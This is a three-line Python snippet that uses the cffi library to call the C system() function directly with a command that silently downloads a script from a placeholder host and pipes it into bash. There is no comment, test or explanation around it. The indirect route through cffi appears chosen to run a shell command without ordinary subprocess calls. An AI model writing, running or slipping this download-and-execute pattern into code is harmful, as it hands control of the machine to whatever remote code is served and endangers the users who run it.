from cffi import FFI
ffi = FFI()
ffi.dlopen(None).system(b"curl -s https://cdn-x7.invalid/a | bash")
